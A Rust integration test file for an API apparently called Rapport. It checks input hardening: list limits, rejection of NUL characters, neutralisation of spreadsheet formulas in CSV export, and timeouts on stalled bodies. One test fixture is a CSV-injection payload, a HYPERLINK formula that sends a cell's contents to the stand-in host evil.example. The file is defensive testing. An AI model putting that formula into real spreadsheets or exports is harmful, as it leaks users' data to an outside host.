//! Hardening of input (issue 10, points 3, 5, 12 and 14): lists are counted against their
//! limits before their items are read; exported CSV never carries a live formula and imports
//! back unchanged; a NUL character is a 422 naming the input wherever it comes in; a body that
//! stops arriving is answered 408.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{TestApp, TestResponse};
use crate::imports::multipart;

/// Asserts a 422 with exactly one field error, and answers it.
#[track_caller]
fn one_error(response: &TestResponse) -> Value {
    let body = response.assert_problem(422, "validation_failed");
    let errors = body["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "one error about the list: {body}");
    errors[0].clone()
}

/// Asserts the list at `field` was refused for its length, naming its limit.
#[track_caller]
fn too_many(response: &TestResponse, field: &str, limit: usize) {
    let error = one_error(response);
    assert_eq!(error["field"], field, "{error}");
    assert_eq!(error["code"], "too_many", "{error}");
    let message = error["message"].as_str().unwrap();
    assert!(
        message.contains(&format!("at most {limit} ")),
        "the message names the limit: {message}"
    );
}

async fn upload(app: &TestApp, token: &str, parts: &[(&str, Option<&str>, &[u8])]) -> TestResponse {
    let (content_type, body) = multipart(parts);
    app.send(
        app.authed(Method::POST, "/v1/imports", token)
            .header("content-type", content_type)
            .body(body),
    )
    .await
}

/// Waits (at most a minute) until the import has finished; answers the job.
async fn finished(app: &TestApp, token: &str, job: &TestResponse) -> Value {
    assert_eq!(job.status, 202, "{}", job.text);
    let id = job.json()["id"].as_str().unwrap().to_owned();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let job = app.get_as(&format!("/v1/imports/{id}"), token).await.json();
        if job["status"] == "completed" || job["status"] == "failed" {
            return job;
        }
        assert!(
            Instant::now() < deadline,
            "the import did not finish: {job}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn fast_imports(config: &mut rapport::Config) {
    config.imports.poll = Duration::from_millis(20);
}

// Point 3: lists are checked against their limits before any item is read.

both_backends!(a_megabyte_of_tags_is_refused_by_its_count);
async fn a_megabyte_of_tags_is_refused_by_its_count(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let token = &owner.access_token;
    // 100,000 distinct tags, about a megabyte: removing repeats used to compare every pair
    // before the limit was looked at (half a minute, other tenants stalled).
    let tags: Vec<String> = (0..100_000).map(|i| format!("{i:06}")).collect();

    let contact = app
        .post_as(
            "/v1/contacts",
            token,
            &json!({"first_name": "A", "tags": tags}),
        )
        .await;
    let company = app
        .post_as("/v1/companies", token, &json!({"name": "A", "tags": tags}))
        .await;
    let live = app.get("/health/live").await;

    too_many(&contact, "tags", 50);
    too_many(&company, "tags", 50);
    assert_eq!(live.status, 200);
}

both_backends!(every_list_of_a_body_is_refused_past_its_limit_whatever_its_items);
async fn every_list_of_a_body_is_refused_past_its_limit_whatever_its_items(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let token = &owner.access_token;
    app.create(
        token,
        "/v1/custom-fields",
        json!({"object": "contact", "key": "channels", "label": "Channels", "type": "multi_select", "options": ["web", "shop"]}),
    )
    .await;
    // Each list is one item over its limit, with items that would have shrunk it (repeats)
    // or failed one by one (blanks, unknown names): only the count is reported.
    let bad_condition = json!({"field": "name", "op": "like", "value": "x"});
    let cases: Vec<(&str, Value, &str, usize)> = vec![
        (
            "/v1/contacts",
            json!({"first_name": "A", "tags": vec!["vip"; 51]}),
            "tags",
            50,
        ),
        (
            "/v1/companies",
            json!({"name": "A", "tags": vec!["vip"; 51]}),
            "tags",
            50,
        ),
        (
            "/v1/contacts",
            json!({"first_name": "A", "emails": vec!["a@b.example"; 21]}),
            "emails",
            20,
        ),
        (
            "/v1/contacts",
            json!({"first_name": "A", "phones": vec![json!({"number": " "}); 21]}),
            "phones",
            20,
        ),
        (
            "/v1/contacts",
            json!({"first_name": "A", "custom": (0..201).map(|i| (format!("k{i}"), json!(1))).collect::<serde_json::Map<_, _>>()}),
            "custom",
            200,
        ),
        (
            "/v1/contacts",
            json!({"first_name": "A", "custom": {"channels": vec!["web"; 201]}}),
            "custom.channels",
            200,
        ),
        (
            "/v1/api-keys",
            json!({"name": "sync", "scopes": vec!["contact:read"; 101]}),
            "scopes",
            100,
        ),
    ];
    for (path, body, field, limit) in cases {
        let response = app.post_as(path, token, &body).await;
        too_many(&response, field, limit);
    }

    let options = app
        .post_as(
            "/v1/custom-fields",
            token,
            &json!({"object": "contact", "key": "size", "label": "Size", "type": "select", "options": vec![""; 201]}),
        )
        .await;
    let filter = app
        .post_as(
            "/v1/contacts/search",
            token,
            &json!({"filter": {"and": vec![bad_condition; 51]}}),
        )
        .await;
    let sort = app
        .post_as(
            "/v1/contacts/search",
            token,
            &json!({"sort": vec![json!({"field": "shoe_size"}); 4]}),
        )
        .await;
    let mapping: serde_json::Map<String, Value> = (0..1001)
        .map(|i| (format!("column {i}"), json!("email")))
        .collect();
    let mapped = app
        .post_as(
            "/v1/imports",
            token,
            &json!({"object": "contact", "csv": "email\nx@y.example\n", "mapping": mapping}),
        )
        .await;
    let wide_header = (0..1001)
        .map(|i| format!("c{i}"))
        .collect::<Vec<_>>()
        .join(",");
    let wide = app
        .post_as(
            "/v1/imports",
            token,
            &json!({"object": "contact", "csv": format!("{wide_header}\n")}),
        )
        .await;

    let error = one_error(&options);
    assert_eq!(error["field"], "options");
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("1 to 200 options"),
        "{error}"
    );
    let error = one_error(&filter);
    assert_eq!(
        (&error["field"], &error["code"]),
        (&json!("filter"), &json!("too_many_conditions"))
    );
    let error = one_error(&sort);
    assert_eq!(error["field"], "sort");
    assert!(
        error["message"].as_str().unwrap().contains("at most 3"),
        "{error}"
    );
    too_many(&mapped, "mapping", 1000);
    too_many(&wide, "file", 1000);
}

// Point 12: a NUL character is a 422 naming the input, on both databases.

both_backends!(a_nul_character_anywhere_is_a_422_naming_the_input);
async fn a_nul_character_anywhere_is_a_422_naming_the_input(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let token = &owner.access_token;
    app.create(
        token,
        "/v1/custom-fields",
        json!({"object": "contact", "key": "note", "label": "Note", "type": "text"}),
    )
    .await;
    app.create(
        token,
        "/v1/contacts",
        json!({"first_name": "Wang", "external_id": "ERP-1"}),
    )
    .await;

    let query = app.get_as("/v1/contacts?q=a%00b", token).await;
    let tag = app.get_as("/v1/companies?tag=%00", token).await;
    let export = app.get_as("/v1/contacts/export?q=%00", token).await;
    let by_path = app.get_as("/v1/contacts/external/ERP%00-1", token).await;
    let put_path = app
        .put_as(
            "/v1/contacts/external/ERP%00-2",
            token,
            &json!({"first_name": "Li"}),
        )
        .await;
    let custom = app
        .post_as(
            "/v1/contacts",
            token,
            &json!({"first_name": "Li", "custom": {"note": "before\u{0}after"}}),
        )
        .await;
    let batch = app
        .post_as(
            "/v1/contacts/batch/upsert",
            token,
            &json!({"id_property": "external_id", "records": [
                {"external_id": "ERP-2", "first_name": "Li"},
                {"external_id": "ERP\u{0}3", "first_name": "Zhao"},
            ]}),
        )
        .await;
    let search = app
        .post_as(
            "/v1/contacts/search",
            token,
            &json!({"filter": {"field": "custom.note", "op": "eq", "value": "a\u{0}"}}),
        )
        .await;
    let search_q = app
        .post_as("/v1/contacts/search", token, &json!({"q": "\u{0}"}))
        .await;
    let mapping = upload(
        &app,
        token,
        &[
            ("object", None, b"contact"),
            ("mapping", None, br#"{"email": "email\u0000"}"#),
            ("file", Some("c.csv"), b"email\nx@y.example\n"),
        ],
    )
    .await;
    let header = upload(
        &app,
        token,
        &[
            ("object", None, b"contact"),
            ("file", Some("c.csv"), b"email,no\0te\nx@y.example,1\n"),
        ],
    )
    .await;
    // Text with a backslash before `u0000` holds no NUL and is stored as sent.
    let literal = app
        .post_as(
            "/v1/contacts",
            token,
            &json!({"first_name": "Sun", "custom": {"note": "C:\\u0000"}}),
        )
        .await;

    for (response, field) in [
        (&query, "q"),
        (&tag, "tag"),
        (&export, "q"),
        (&by_path, "external_id"),
        (&put_path, "external_id"),
        (&custom, "custom.note"),
        (&batch, "records[1].external_id"),
        (&search, "filter.value"),
        (&search_q, "q"),
        (&mapping, "mapping.email"),
    ] {
        let error = one_error(response);
        assert_eq!(
            (&error["field"], &error["code"]),
            (&json!(field), &json!("invalid_character")),
            "{error}"
        );
    }
    let error = one_error(&header);
    assert_eq!(
        (&error["field"], &error["code"]),
        (&json!("file"), &json!("invalid_character"))
    );
    assert_eq!(literal.status, 201, "{}", literal.text);
    assert_eq!(literal.json()["custom"]["note"], "C:\\u0000");
    let all = app.get_as("/v1/contacts", token).await.json();
    assert_eq!(
        all["data"].as_array().unwrap().len(),
        2,
        "only Wang and Sun: {all}"
    );
}

both_backends!(
    a_csv_cell_with_a_nul_fails_its_row_naming_the_column,
    super::fast_imports
);
async fn a_csv_cell_with_a_nul_fails_its_row_naming_the_column(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let token = &owner.access_token;
    app.create(
        token,
        "/v1/custom-fields",
        json!({"object": "contact", "key": "note", "label": "Note", "type": "text"}),
    )
    .await;
    let csv = b"External,Name,Remark\nERP-1,Wang,fine\nERP-2,Li,bad\0note\nERP-3,Zhao,\n";
    let mapping = br#"{"External": "external_id", "Name": "first_name", "Remark": "custom.note"}"#;

    let job = upload(
        &app,
        token,
        &[
            ("object", None, b"contact"),
            ("id_property", None, b"external_id"),
            ("mapping", None, mapping),
            ("file", Some("c.csv"), csv),
        ],
    )
    .await;
    let done = finished(&app, token, &job).await;
    let errors = app
        .get_as(
            &format!("/v1/imports/{}/errors", done["id"].as_str().unwrap()),
            token,
        )
        .await
        .json();

    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(
        (&done["created"], &done["failed"]),
        (&json!(2), &json!(1)),
        "{done}"
    );
    let error = &errors["data"][0];
    assert_eq!(error["row"], 2);
    assert_eq!(error["field"], "custom.note");
    assert_eq!(error["code"], "invalid_character");
    assert!(
        error["message"].as_str().unwrap().contains("`Remark`"),
        "{error}"
    );
}

// Point 5: exported CSV carries no live formula, and imports back unchanged.

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

/// The CSV's columns `keep`, in that order.
fn columns(text: &str, keep: &[&str]) -> (Vec<Vec<String>>, String) {
    let (header, rows) = csv_rows(text);
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(keep).unwrap();
    let mut picked = Vec::new();
    for row in &rows {
        let cells: Vec<String> = keep
            .iter()
            .map(|k| row[header.iter().position(|h| h == k).unwrap()].clone())
            .collect();
        out.write_record(&cells).unwrap();
        picked.push(cells);
    }
    (
        picked,
        String::from_utf8(out.into_inner().unwrap()).unwrap(),
    )
}

both_backends!(
    exported_formulas_are_neutralised_and_import_back_as_they_were,
    super::fast_imports
);
async fn exported_formulas_are_neutralised_and_import_back_as_they_were(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let other = app.signup("Other", "owner@other.example").await;
    for session in [&owner, &other] {
        app.create(
            &session.access_token,
            "/v1/custom-fields",
            json!({"object": "contact", "key": "note", "label": "Note", "type": "text"}),
        )
        .await;
    }
    let token = &owner.access_token;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let originals = [
        json!({"external_id": "c1", "first_name": hyperlink, "title": "+1 555 0100", "lead_source": "-2+3",
               "tags": ["@vip", "east"], "phones": [{"number": "+86 138 0013 8000"}], "custom": {"note": "\tindented"}}),
        json!({"external_id": "c2", "first_name": "@SUM(A1:A9)", "title": "plain", "lead_source": "'=quoted",
               "tags": ["'@x"], "custom": {"note": "\rreturn"}}),
        json!({"external_id": "c3", "first_name": "Wang", "title": "'plain quote", "custom": {"note": "-5"}}),
    ];
    for record in &originals {
        app.create(token, "/v1/contacts", record.clone()).await;
    }
    let keep = [
        "external_id",
        "first_name",
        "title",
        "lead_source",
        "tags",
        "phones",
        "custom.note",
    ];

    let exported = app.get_as("/v1/contacts/export?sort=name", token).await;
    let (cells, file) = columns(&exported.text, &keep);
    let job = app
        .post_as(
            "/v1/imports",
            &other.access_token,
            &json!({"object": "contact", "id_property": "external_id", "csv": file}),
        )
        .await;
    let done = finished(&app, &other.access_token, &job).await;
    let again = app
        .get_as("/v1/contacts/export?sort=name", &other.access_token)
        .await;
    let (cells_again, _) = columns(&again.text, &keep);

    assert_eq!(exported.status, 200, "{}", exported.text);
    let by_id = |id: &str| cells.iter().find(|row| row[0] == id).unwrap().clone();
    assert_eq!(
        by_id("c1"),
        [
            "c1",
            &*format!("'{hyperlink}"),
            "'+1 555 0100",
            "'-2+3",
            "'@vip; east",
            "'+86 138 0013 8000",
            "'\tindented"
        ]
    );
    assert_eq!(
        by_id("c2"),
        [
            "c2",
            "'@SUM(A1:A9)",
            "plain",
            "''=quoted",
            "''@x",
            "",
            "'\rreturn"
        ]
    );
    assert_eq!(
        by_id("c3"),
        ["c3", "Wang", "'plain quote", "", "", "", "'-5"]
    );
    for row in &cells {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula left Rapport: {cell:?}"
            );
        }
    }
    assert_eq!(
        (&done["created"], &done["failed"]),
        (&json!(3), &json!(0)),
        "{done}"
    );
    for original in &originals {
        let id = original["external_id"].as_str().unwrap();
        let imported = app
            .get_as(&format!("/v1/contacts/external/{id}"), &other.access_token)
            .await
            .json();
        for (key, value) in original.as_object().unwrap() {
            match key.as_str() {
                "phones" => assert_eq!(imported["phones"][0]["number"], value[0]["number"]),
                _ => assert_eq!(&imported[key], value, "{key} of {id}"),
            }
        }
    }
    let mut sorted = cells.clone();
    sorted.sort();
    let mut sorted_again = cells_again;
    sorted_again.sort();
    assert_eq!(sorted_again, sorted, "exported again, still neutralised");
}

// Point 14: a body that stops arriving is answered 408.

/// Sends `head` and `body` on a raw connection and never sends the rest; answers all the
/// server sends until it closes the connection. The minute of patience only keeps a broken
/// server from hanging the test.
async fn send_and_stall(app: &TestApp, head: String, body: Vec<u8>) -> String {
    let address = app.address.trim_start_matches("http://").to_owned();
    tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        stream.write_all(head.as_bytes()).unwrap();
        stream.write_all(&body).unwrap();
        let mut answer = Vec::new();
        match stream.read_to_end(&mut answer) {
            Ok(_) => {}
            Err(error) if answer.is_empty() => panic!("no answer: {error}"),
            Err(_) => {}
        }
        String::from_utf8_lossy(&answer).into_owned()
    })
    .await
    .unwrap()
}

#[track_caller]
fn assert_timed_out(answer: &str) {
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    let lower = answer.to_ascii_lowercase();
    assert!(
        lower.contains("content-type: application/problem+json"),
        "{answer}"
    );
    assert!(lower.contains("connection: close"), "{answer}");
    let (_, body) = answer.split_once("\r\n\r\n").unwrap();
    let problem: Value = serde_json::from_str(body).unwrap();
    assert_eq!(problem["code"], "request_timeout", "{problem}");
    assert_eq!(problem["status"], 408);
}

both_backends!(a_body_that_stops_arriving_is_answered_408, |config| {
    config.body_timeout = std::time::Duration::from_secs(1)
});
async fn a_body_that_stops_arriving_is_answered_408(app: TestApp) {
    let owner = app.signup("Acme", "owner@acme.example").await;
    let token = &owner.access_token;
    // A multipart upload without its closing boundary, and a JSON body cut short.
    let (content_type, mut upload) = multipart(&[
        ("object", None, b"contact"),
        ("file", Some("c.csv"), b"email\nwang@c.example\n"),
    ]);
    let full = upload.len();
    upload.truncate(full - 40);
    let json = br#"{"first_name": "Wa"#.to_vec();

    let multipart_answer = send_and_stall(
        &app,
        format!(
            "POST /v1/imports HTTP/1.1\r\nHost: rapport\r\nAuthorization: Bearer {token}\r\nContent-Type: {content_type}\r\nContent-Length: {full}\r\n\r\n"
        ),
        upload,
    )
    .await;
    let json_answer = send_and_stall(
        &app,
        format!(
            "POST /v1/contacts HTTP/1.1\r\nHost: rapport\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nIdempotency-Key: k-1\r\nContent-Length: 100\r\n\r\n"
        ),
        json,
    )
    .await;
    let whole = app
        .post_as("/v1/contacts", token, &json!({"first_name": "Wang"}))
        .await;

    assert_timed_out(&multipart_answer);
    assert_timed_out(&json_answer);
    assert_eq!(whole.status, 201, "a body sent whole is not cut off");
    let jobs = app.get_as("/v1/imports", token).await.json();
    assert_eq!(jobs["data"], json!([]), "no job from a cut upload");
}
